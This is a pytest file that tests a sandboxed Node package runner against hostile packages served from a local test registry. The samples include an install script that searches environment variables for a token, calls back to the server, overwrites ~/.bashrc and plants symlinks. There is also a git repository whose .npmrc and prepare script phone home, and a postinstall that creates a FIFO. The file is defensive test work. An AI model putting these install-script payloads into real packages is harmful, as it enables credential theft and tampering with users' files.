"""Node packages that try to act while they are prepared, against a real registry."""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.command import Wardian
from tests.runner.conftest import environment, make_skill, needs, wardian
from tests.runner.hostile import Index, publish, serving
from tests.skill_folders import MakeSkill
from wardian.runner.packages.specs import lock_fault, manifest_fault, read_lock, spec_fault

pytestmark = pytest.mark.long

__all__ = ["environment", "make_skill", "wardian"]
SCRIPT = 'console.log(require("{}")())'
SHA = "sha512-" + "A" * 86 + "=="

GIT = [
    "git+https://h/x.git", "git+ssh://git@h/x.git", "git://h/x", "git@github.com:u/x.git", "github:u/x",
    "u/x", "u/x#v1", "gitlab:u/x", "bitbucket:u/x", "gist:11", "https://github.com/u/x", "ssh://h/x",
    "https://github.com/u/x.git", "https://github.com/u/x.tgz", "https://h/x.git", "git+file:///x", "GIT+https://h/x",
    "https://h/x.tgz?a=b", "https://h/x.tgz#b", "https://me:pw@h/x.tgz", "http://h/x.tgz", "https://h/x",
    "file:x", "file:../x", "FILE:/x", "link:x", "./x", "../x", "/x", "~/x", ".", "x.tgz", "x.tar.gz", "x.tar",
    "workspace:*", "portal:/x", "npm:x@file:../y", "npm:x@github:u/x", "npm:u/x/y@1", "npm:x@npm:y@1", "npm:",
    "patch:x", "http:x", "\tfile:x", " ./x", "1\n2", "x" * 300,
]  # fmt: skip
FINE = [
    "", "*", "^1", "~1.2", "1.2.3", ">=1 <2", "1 || 2", "1.x", "latest", "next-14", "1.0.0-rc.1+b", "1 - 2",
    "npm:y@^1", "npm:@s/y@1.x", "npm:y", "https://h/x.tgz", "https://h/a/b/x-1.tar.gz", "http://127.0.0.1:1/x.tgz",
    "https://github.com/u/x/releases/download/v1/x.tgz",
]  # fmt: skip


@pytest.mark.parametrize("spec", GIT)
def test_only_ranges_and_https_tarballs_may_be_asked_for(spec: str) -> None:
    assert spec_fault("x", spec)
    assert manifest_fault({"dependencies": {"x": spec}})
    assert manifest_fault({"dependencies": {}, "optionalDependencies": {"x": spec}})
    assert manifest_fault({"overrides": {"x": spec}})
    assert manifest_fault({"overrides": {"y": {".": "1", "x@1": {"z": spec}}}})


@pytest.mark.parametrize("spec", FINE)
def test_ranges_tags_aliases_and_tarballs_are_fine(spec: str) -> None:
    assert spec_fault("@s/x", spec) is None
    assert (
        manifest_fault({"dependencies": {"x": spec}, "overrides": {"x": "$x", "y@1": {".": spec}}})
        is None
    )


FROM = [
    "git+ssh://git@github.com/u/x.git#abc", "git+https://h/x", "file:../x", "file:x.tgz", "../x", "http://h/x.tgz",
    "https://me:pw@h/x.tgz", "https://github.com/u/x.git", "/x", "ssh://h/x", 5, ["https://h/x.tgz"],
]  # fmt: skip


@pytest.mark.parametrize("resolved", FROM)
def test_a_lock_file_may_not_resolve_elsewhere(resolved: object) -> None:
    new = {
        "lockfileVersion": 3,
        "packages": {"": {}, "node_modules/x": {"version": "1.0.0", "resolved": resolved}},
    }
    assert lock_fault(json.dumps(new).encode())
    with pytest.raises(ValueError, match="x comes from"):
        read_lock(json.dumps(new).encode(), frozenset())
    old = {
        "dependencies": {
            "y": {"version": "1.0.0", "dependencies": {"x": {"version": "1", "resolved": resolved}}}
        }
    }
    assert lock_fault(json.dumps(old).encode())
    assert lock_fault(json.dumps({"dependencies": {"x": {"version": resolved}}}).encode())


@pytest.mark.parametrize(
    "entry",
    [
        {"node_modules/x": {"link": True, "resolved": "x"}}, {"../x": {"version": "1.0.0"}},
        {"x": {"version": "1.0.0"}}, {"node_modules/../x": {}}, {"node_modules/x/node_modules/../../y": {}},
        {"node_modules/x": []}, {"/x": {}},
    ],
)  # fmt: skip
def test_a_lock_file_may_not_place_packages_elsewhere(entry: dict[str, Any]) -> None:
    data = json.dumps({"packages": {"": {}, **entry}}).encode()
    assert lock_fault(data)
    with pytest.raises(ValueError, match=r"."):
        read_lock(data, frozenset())


def test_an_ordinary_lock_is_read() -> None:
    about = {"version": "1.0.0", "resolved": "https://h/x.tgz", "integrity": SHA, "os": ["!win32"]}
    other = {**about, "optional": True, "os": ["darwin"], "hasInstallScript": True}
    packages = {"": {}, "node_modules/x": about, "node_modules/@s/y/node_modules/z": other}
    data = json.dumps({"lockfileVersion": 3, "packages": packages}).encode()
    assert lock_fault(data) is None
    first, second = read_lock(data, frozenset())
    assert (first.name, first.fits, first.installs) == ("x", True, False)
    assert (second.name, second.fits, second.optional, second.installs) == ("z", False, True, True)


# Against a registry


@pytest.fixture
def registry() -> Iterator[Index]:
    with serving(Index()) as made:
        publish(made, "friendly")
        yield made


def skill_with(make_skill: MakeSkill, package: str, **more: str | bytes) -> Path:
    files = {
        "scripts/a.cjs": SCRIPT.format(package),
        "package.json": json.dumps({"dependencies": {package: "^1"}}),
        ".npmrc": "git=/skill/git\nscript-shell=/skill/git\nignore-scripts=false\n",
    }
    return make_skill({**files, **{name.replace("__", "."): text for name, text in more.items()}})


def repository(tmp_path: Path, registry: Index) -> str:
    """A git repository on loopback whose own .npmrc names another git, which phones home."""
    import subprocess

    folder, bare = tmp_path / "repo", tmp_path / "evil.git"
    folder.mkdir()
    act = f"require('http').get('{registry.url}/ran')"
    (folder / "evil.sh").write_text(f'#!/bin/sh\nnode -e "{act}"\nexit 1\n')
    (folder / "evil.sh").chmod(0o755)
    (folder / ".npmrc").write_text("git=./evil.sh\nignore-scripts=false\n")
    about = {"name": "evil", "version": "1.0.0", "scripts": {"prepare": f'node -e "{act}"'}}
    inner = {"devDependencies": {"inner": f"git+{registry.url}/none.git"}}
    (folder / "package.json").write_text(json.dumps(about | inner))
    git = ["git", "-C", str(folder), "-c", "user.name=x", "-c", "user.email=x@x"]
    for words in (["init", "-q"], ["add", "-A"], ["commit", "-qm", "x"],
                  ["clone", "-q", "--bare", ".", str(bare)],
                  ["--git-dir", str(bare), "update-server-info"]):  # fmt: skip
        subprocess.run([*git, *words], check=True, capture_output=True)
    for path in bare.rglob("*"):
        if path.is_file():
            registry.add(f"evil.git/{path.relative_to(bare)}", path.read_bytes())
    return f"git+{registry.url}/evil.git"


@needs("npm")
@needs("git")
@pytest.mark.parametrize("kind", ["dependencies", "optionalDependencies", "peerDependencies"])
def test_a_registry_package_does_not_bring_a_git_repository(
    kind: str, registry: Index, make_skill: MakeSkill, wardian: Wardian, tmp_path: Path
) -> None:
    """Neither does code of the repository run, nor is it fetched at all."""
    publish(registry, "lure", **{kind: {"evil": repository(tmp_path, registry)}})
    env = {"npm_config_registry": registry.url}
    done = wardian("run", skill_with(make_skill, "lure"), "a.cjs", env=env)
    assert done.returncode == 125 or (kind == "optionalDependencies" and done.stdout == "lure\n")
    assert registry.ran == []
    assert [path for path in registry.asked if path.startswith("/evil.git")] == []
    made = list((tmp_path / "home/cache/wardian").glob("*/environments/*/node_modules/evil"))
    assert made == []
    if kind == "dependencies":
        done = wardian("run", skill_with(make_skill, "friendly"), "a.cjs", env=env)
        assert done.stdout == "friendly\n", done.stderr


@needs("npm")
@pytest.mark.parametrize(
    "spec", ["git+file:///x", "file:../x", "github:u/x#" + "a" * 40, "http://192.0.2.1/x.tgz"]
)
def test_a_package_json_that_asks_for_more_is_refused_at_once(
    spec: str, registry: Index, make_skill: MakeSkill, wardian: Wardian
) -> None:
    manifest = json.dumps({"dependencies": {"friendly": "1"}, "optionalDependencies": {"x": spec}})
    skill = skill_with(make_skill, "friendly", package__json=manifest)
    done = wardian("run", skill, "a.cjs", "--build", env={"npm_config_registry": registry.url})
    assert (done.returncode, registry.asked) == (125, [])
    assert "package.json" in done.stderr


@needs("npm")
def test_a_lock_file_is_followed_and_refused_where_it_leads_away(
    registry: Index, make_skill: MakeSkill, wardian: Wardian, tmp_path: Path
) -> None:
    document = json.loads(registry.files["friendly"])["versions"]["1.0.0"]["dist"]
    entry = {
        "version": "1.0.0",
        "resolved": document["tarball"],
        "integrity": document["integrity"],
    }
    root = {"dependencies": {"friendly": "^1"}}
    lock = {"lockfileVersion": 3, "packages": {"": root, "node_modules/friendly": entry}}
    env = {"npm_config_registry": registry.url}
    skill = skill_with(make_skill, "friendly", **{"package-lock__json": json.dumps(lock)})
    assert wardian("run", skill, "a.cjs", env=env).stdout == "friendly\n"
    for resolved in ("git+ssh://git@github.com/u/x.git#" + "a" * 40, "file:../../x"):
        away = {"": root, "node_modules/friendly": {**entry, "resolved": resolved}}
        text = json.dumps({"lockfileVersion": 3, "packages": away})
        skill = skill_with(make_skill, "friendly", **{"package-lock__json": text})
        done = wardian("run", skill, "a.cjs", env=env)
        assert done.returncode == 125
        assert "lock file is refused" in done.stderr
    other = {"": root, "node_modules/friendly": {**entry, "integrity": SHA}}
    text = json.dumps({"lockfileVersion": 3, "packages": other})
    skill = skill_with(make_skill, "friendly", **{"package-lock__json": text})
    assert wardian("run", skill, "a.cjs", env=env).returncode == 125


ACT = """
const fs = require("fs"), http = require("http")
const word = ["hunter", 2].join("")
const seen = {{ password: JSON.stringify(process.env).includes(word), network: false }}
for (const [at, to] of {links}) try {{ fs.symlinkSync(to, at) }} catch {{}}
try {{ fs.writeFileSync({victim}, "replaced") }} catch {{}}
const end = () => fs.writeFileSync(__dirname + "/index.js", "module.exports = () => " + JSON.stringify(JSON.stringify(seen)))
http.get("{url}/ran", () => {{ seen.network = true; end() }}).on("error", end)
"""


@needs("npm")
def test_an_install_script_has_neither_network_nor_tokens(
    make_skill: MakeSkill, wardian: Wardian, tmp_path: Path
) -> None:
    victim = tmp_path / "home/.bashrc"
    victim.write_text("mine")
    with serving(Index("hunter2")) as registry:
        links = [
            [f"../../{name}", str(victim)] for name in (".wardian-ready", ".wardian-ready.partial")
        ]
        act = ACT.format(url=registry.url, links="[]", victim=json.dumps(str(victim)))
        publish(registry, "lure", {"act.js": act}, scripts={"install": "node act.js"})
        host = registry.url.removeprefix("http:")
        npmrc = tmp_path / "npmrc"
        npmrc.write_text(f"registry={registry.url}\n{host}/:_authToken=hunter2\n")
        env = {"NPM_CONFIG_USERCONFIG": str(npmrc)}
        skill = skill_with(make_skill, "lure")
        without = wardian("run", skill, "a.cjs", env=env)
        assert "not run: the install script of lure" in without.stderr
        assert not [
            p
            for p in (tmp_path / "home/cache").rglob("lure/index.js")
            if "password" in p.read_text()
        ]
        done = wardian("run", skill, "a.cjs", "--build", env=env)
        assert done.returncode == 0, done.stderr
        assert json.loads(done.stdout) == {"password": False, "network": False}
        assert registry.ran == []
        act = ACT.format(url=registry.url, links=json.dumps(links), victim='"/nowhere/x"')
        publish(registry, "leaver", {"act.js": act}, scripts={"install": "node act.js"})
        done = wardian("run", skill_with(make_skill, "leaver"), "a.cjs", "--build", env=env)
        assert done.returncode == 125
        assert "leads out" in done.stderr
    assert victim.read_text() == "mine"
    left = [p for p in (tmp_path / "home/cache").rglob("*") if p.is_symlink()]
    assert [p for p in left if os.readlink(p) == str(victim)] == []


@needs("npm")
@pytest.mark.parametrize("first", ["", "fs.rmSync(at); "])
def test_a_pipe_that_an_install_script_leaves_stops_nobody(
    first: str, registry: Index, make_skill: MakeSkill, wardian: Wardian, tmp_path: Path
) -> None:
    """npm writes a file of its own into node_modules: before any script can put a pipe there."""
    act = 'const fs = require("fs"), at = "../.package-lock.json"; '
    act += first + 'require("child_process").execSync(`mkfifo ${at}`)'
    publish(registry, "lure", {"act.js": act}, scripts={"postinstall": "node act.js"})
    env = {"npm_config_registry": registry.url}
    done = wardian("run", skill_with(make_skill, "lure"), "a.cjs", "--build", env=env)
    assert (done.returncode, done.stdout) == (125, ""), done.stderr
    assert ("neither a file" in done.stderr) == bool(first)
    assert list((tmp_path / "home/cache/wardian").glob("*/environments/*")) == []
